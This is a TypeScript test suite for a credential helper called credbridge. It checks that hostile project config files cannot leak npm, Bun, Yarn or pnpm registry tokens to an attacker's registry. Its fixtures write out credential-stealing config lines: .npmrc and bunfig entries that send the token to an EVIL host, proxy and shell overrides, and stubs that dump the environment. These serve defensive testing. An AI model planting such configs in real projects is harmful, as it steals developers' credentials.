import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, onTestFinished, test } from 'vitest'
import { type Stranger, startStranger } from '../real/package-registry.ts'
import { type Manager, type NpmWorld, needsNpmClients, openNpmWorld } from './npm-world.ts'

/*
 * A hostile project, and the registry that belongs to its author: real managers of packages are started in it. What the
 * author's registry hears is looked at, not what the managers say. That each attack works on a token in the environment
 * is shown first, so that silence means something.
 */

interface Attacked {
  readonly world: NpmWorld
  readonly good: Stranger
  readonly evil: Stranger
  /** The person's own token, in every form that it could travel in. */
  readonly token: string
  /** The project's folder with these files: GOOD and EVIL stand for the two registries, HOME for the home folder. */
  project(files: Readonly<Record<string, string>>): void
  heard(): boolean
}

async function attacked(tool: string, ...managers: readonly Manager[]): Promise<Attacked> {
  const [good, evil] = [await startStranger(onTestFinished), await startStranger(onTestFinished)]
  const token = 'npm_OnlyForTheGoodOne0123456789'
  const world = await openNpmWorld('vault', managers, { origin: good.origin, token: async () => token })
  await world.well('', 'credbridge', ['set', world.registry.origin, '--kind', 'bearer'], { input: `${token}\n` })
  if (tool !== 'pnpm') await world.well('', 'credbridge', ['share', world.registry.origin, '--with', tool])
  return {
    world,
    good,
    evil,
    token,
    project(files) {
      const all = { 'package.json': '{ "name": "app", "private": true }', ...files }
      for (const [name, text] of Object.entries(all)) {
        const meant = text
          .replaceAll('http:GOOD', world.registry.origin)
          .replaceAll('http:EVIL', evil.origin)
          .replaceAll('GOOD', world.registry.origin.slice('http:'.length))
          .replaceAll('EVIL', evil.origin.slice('http:'.length))
          .replaceAll('HOME', world.home)
        world.put(`app/${name}`, meant)
      }
    },
    heard() {
      const all = evil.everything.join('\n')
      return [token, Buffer.from(token).toString('base64'), encodeURIComponent(token)].some((form) =>
        all.includes(form),
      )
    },
  }
}

/** What would be a hole, if the variable had a name that can be guessed. */
const interpolated = {
  npm: { '.npmrc': 'registry=http:EVIL/\nEVIL/:_authToken=${npm_config_GOOD/:_authToken}\n' },
  bun: { '.npmrc': 'registry=http:EVIL/\nEVIL/:_authToken=${npm_config_GOOD/:_authToken}\n' },
  bunfig: { 'bunfig.toml': '[install]\nregistry = { url = "http:EVIL/", token = "$npm_config_GOOD/:_authToken" }\n' },
}

needsNpmClients('a hostile project', () => {
  test('npm: the attack works on a variable with a name that can be guessed', async () => {
    const it = await attacked('npm', 'npm')
    it.project(interpolated.npm)
    const { origin } = it.world.registry
    const env = { ...it.world.env, [`npm_config_${origin.slice('http:'.length)}/:_authToken`]: it.token }
    await it.world.run('app', 'npm', ['install', 'tiny'], { env })
    expect(it.evil.heard).toContain(`Bearer ${it.token}`)
  })

  describe('npm, through our shim', () => {
    test.each([
      ['another host’s token', 2, interpolated.npm],
      ['our variable', 1, { '.npmrc': 'EVIL/:_authToken=${CREDBRIDGE_0123456789ABCDEF0123456789ABCDEF}\n' }],
      ['a store of ours', 1, { '.npmrc': 'EVIL/:_authToken=${CREDBRIDGE_STORE}\n' }],
      [
        'a file of the project’s as the machine’s',
        1,
        { '.npmrc': 'globalconfig=./evil\n', evil: 'strict-ssl=false\n' },
      ],
      ['a proxy of its own', 1, { '.npmrc': 'proxy=http:EVIL/\n' }],
      ['a program for git', 1, { '.npmrc': 'git=HOME/app/evil\n' }],
      ['a shell', 1, { '.npmrc': 'script-shell=./evil\n' }],
    ])('%s: refused, and line %i of the file is named', async (_name, line, files) => {
      const it = await attacked('npm', 'npm')
      await it.world.well('', 'credbridge', ['setup', 'npm'])
      it.project({ ...files, evil: '#!/bin/sh\nenv >HOME/ran\n' })
      const outcome = await it.world.run('app', 'npm', ['install', 'tiny'])
      expect(outcome).toMatchObject({
        exitCode: 2,
        stderr: expect.stringContaining(`${join(it.world.home, 'app', '.npmrc')}, line ${line}: `),
      })
      expect([it.evil.everything, existsSync(join(it.world.home, 'ran'))]).toEqual([[], false])
    })

    test.each([
      ['a registry that nobody enabled', { '.npmrc': 'registry=http:EVIL/\n' }],
      ['our file’s path', { '.npmrc': 'registry=http:EVIL/\nEVIL/:_authToken=${npm_config_userconfig}\n' }],
      ['a user’s configuration of its own', { '.npmrc': 'registry=http:EVIL/\nuserconfig=./mine\n' }],
      [
        'settings of ours in the project',
        {
          '.npmrc': 'registry=http:EVIL/\n',
          'credbridge.toml': 'store = "helper:evil"\n[aliases]\n"EVIL" = "GOOD"\n',
          '.credbridge/config.toml': 'store = "helper:evil"\n',
          'docker-credential-evil': '#!/bin/sh\nenv >HOME/ran\n',
        },
      ],
    ])('%s: npm starts, and its author hears no token', async (_name, files) => {
      const it = await attacked('npm', 'npm')
      await it.world.well('', 'credbridge', ['setup', 'npm'])
      it.project(files)
      await it.world.run('app', 'npm', ['install', '@evil/tiny', '--fetch-retries=0'])
      expect(it.evil.everything.length).toBeGreaterThan(0)
      expect([it.heard(), existsSync(join(it.world.home, 'ran'))]).toEqual([false, false])
    })

    test('packages that lie elsewhere: the token goes to its own registry, and to that alone', async () => {
      const it = await attacked('npm', 'npm')
      await it.world.well('', 'credbridge', ['setup', 'npm'])
      it.project({
        '.npmrc': 'registry=http:GOOD/\n@evil:registry=http:EVIL/\n',
        'package.json': '{ "name": "app", "dependencies": { "@evil/a": "1", "b": "http:EVIL/b.tgz" } }',
      })
      await it.world.run('app', 'npm', ['install', 'tiny', '--fetch-retries=0'])
      await it.world.run('app', 'npm', ['install', '@evil/a', '--fetch-retries=0'])
      expect(it.good.heard).toContain(`Bearer ${it.token}`)
      expect(it.evil.everything.length).toBeGreaterThan(0)
      expect(it.heard()).toBe(false)
    })
  })

  test('Bun: the attack works on a variable with a name that can be guessed', async () => {
    const it = await attacked('bun', 'bun')
    it.project({ '.npmrc': 'registry=http:EVIL/\nEVIL/:_authToken=${NPM_TOKEN}\n' })
    await it.world.run('app', 'bun', ['add', 'tiny'], { env: { ...it.world.env, NPM_TOKEN: it.token } })
    expect(it.evil.heard).toContain(`Bearer ${it.token}`)
  })

  describe('Bun, by credbridge run', () => {
    test.each([
      ['.npmrc', interpolated.bun],
      ['bunfig.toml', interpolated.bunfig],
      ['bunfig.toml', { 'bunfig.toml': '[install.scopes]\nx = { url = "http:EVIL/", token = "$CREDBRIDGE_STORE" }\n' }],
      ['bunfig.toml', { 'bunfig.toml': '[install.security]\nscanner = "evil"\n' }],
      ['.env', { '.env': 'HTTP_PROXY=http:EVIL/\n' }],
    ])('%s: refused by name', async (file, files) => {
      const it = await attacked('bun', 'bun')
      it.project(files)
      expect(await it.world.run('app', 'credbridge', ['run', '--', 'bun', 'add', 'tiny'])).toMatchObject({
        exitCode: 2,
        stderr: expect.stringContaining(`${join(it.world.home, 'app', file)}, line `),
      })
      expect(it.evil.everything).toEqual([])
    })

    test('a registry that nobody enabled gets nothing', async () => {
      const it = await attacked('bun', 'bun')
      it.project({ 'bunfig.toml': '[install.scopes]\nevil = "http:EVIL/"\n' })
      await it.world.run('app', 'credbridge', ['run', '--', 'bun', 'add', '@evil/tiny'])
      expect(it.evil.everything.length).toBeGreaterThan(0)
      expect(it.heard()).toBe(false)
    })
  })

  test('Yarn: the attack works on its own variable, which goes to every registry', async () => {
    const it = await attacked('yarn', 'yarn')
    it.project({ 'yarn.lock': '', '.yarnrc.yml': 'npmRegistryServer: "http:EVIL"\nnpmAlwaysAuth: true\n' })
    await it.world.run('app', 'yarn', ['add', 'tiny'], { env: { ...it.world.env, YARN_NPM_AUTH_TOKEN: it.token } })
    expect(it.evil.heard).toContain(`Bearer ${it.token}`)
  })

  describe('Yarn, with our plugin', () => {
    test.each([
      ['a registry that nobody enabled', 'npmRegistryServer: "http:EVIL"\nnpmAlwaysAuth: true\n'],
      ['the same for a scope', 'npmScopes:\n  evil:\n    npmRegistryServer: "http:EVIL"\n    npmAlwaysAuth: true\n'],
      ['our host in the name', 'npmRegistryServer: "http:EVIL/http:GOOD"\nnpmAlwaysAuth: true\n'],
    ])('%s: its author hears no token', async (_name, text) => {
      const it = await attacked('yarn', 'yarn')
      await it.world.well('', 'credbridge', ['setup', 'yarn'])
      it.project({ 'yarn.lock': '', '.yarnrc.yml': text })
      await it.world.run('app', 'yarn', ['add', '@evil/tiny'])
      expect(it.evil.everything.length).toBeGreaterThan(0)
      expect(it.heard()).toBe(false)
    })

    test.each([
      ['httpProxy: "http:EVIL"', 'httpProxy'],
      ['enableStrictSsl: false', 'enableStrictSsl'],
      ['httpsCaFilePath: ./evil.pem', 'httpsCaFilePath'],
      ['networkSettings:\n  "*":\n    httpProxy: "http:EVIL"', 'networkSettings'],
    ])('%s: the credential stays here', async (text, name) => {
      const it = await attacked('yarn', 'yarn')
      await it.world.well('', 'credbridge', ['setup', 'yarn'])
      it.project({ 'yarn.lock': '', '.yarnrc.yml': `${text}\n`, 'evil.pem': '' })
      const outcome = await it.world.run('app', 'yarn', ['npm', 'whoami'])
      expect(outcome.stdout).toContain(`credbridge: ${name} is set by `)
      expect([outcome.exitCode, it.heard()]).toEqual([1, false])
    })

    test('a program that a project puts in Yarn’s place finds nothing in its environment', async () => {
      const it = await attacked('yarn', 'yarn')
      await it.world.well('', 'credbridge', ['setup', 'yarn'])
      const program = 'require("node:fs").writeFileSync("HOME/ran", JSON.stringify(process.env))\n'
      it.project({ 'yarn.lock': '', '.yarnrc.yml': 'yarnPath: ./evil.cjs\n', 'evil.cjs': program })
      for (const start of [['yarn'], ['credbridge', 'run', '--', 'yarn']]) {
        const [command = '', ...words] = start
        await it.world.run('app', command, [...words, 'install'])
        expect(it.world.read('ran')).not.toContain(it.token)
      }
    })

    test.each(['${CREDBRIDGE_STORE-}', '${npm_config_GOOD/:_authToken-}'])(
      '%s: credbridge run refuses it',
      async (reference) => {
        const it = await attacked('yarn', 'yarn')
        it.project({ '.yarnrc.yml': `npmRegistries:\n  "EVIL":\n    npmAuthToken: "${reference}"\n` })
        expect(await it.world.run('app', 'credbridge', ['run', '--', 'yarn', 'install'])).toMatchObject({
          exitCode: 2,
          stderr: expect.stringContaining(`${join(it.world.home, 'app', '.yarnrc.yml')}, line 3: `),
        })
        expect(it.evil.everything).toEqual([])
      },
    )
  })

  describe.each(['pnpm', 'pnpm-10'] as const)('%s, with our helper', (manager) => {
    test.each([
      ['a registry that nobody enabled', { '.npmrc': 'registry=http:EVIL/\n' }],
      ['our helper for its registry', { '.npmrc': 'registry=http:EVIL/\nEVIL/:tokenHelper=HELPER\n' }],
      ['a helper of its own', { '.npmrc': 'registry=http:EVIL/\nEVIL/:tokenHelper=HOME/app/evil\n' }],
    ])('%s: its author hears no token', async (_name, files) => {
      const it = await attacked('pnpm', manager)
      await it.world.well('', 'credbridge', ['setup', 'pnpm'])
      const helper = /tokenHelper=(.*)/.exec(it.world.read('.npmrc'))?.[1] ?? ''
      it.project({
        '.npmrc': files['.npmrc'].replace('HELPER', helper),
        evil: '#!/bin/sh\nenv >HOME/ran\n',
      })
      await it.world.run('app', 'pnpm', ['add', 'tiny', '--fetch-retries=0'])
      expect([it.heard(), existsSync(join(it.world.home, 'ran'))]).toEqual([false, false])
    })
  })
})
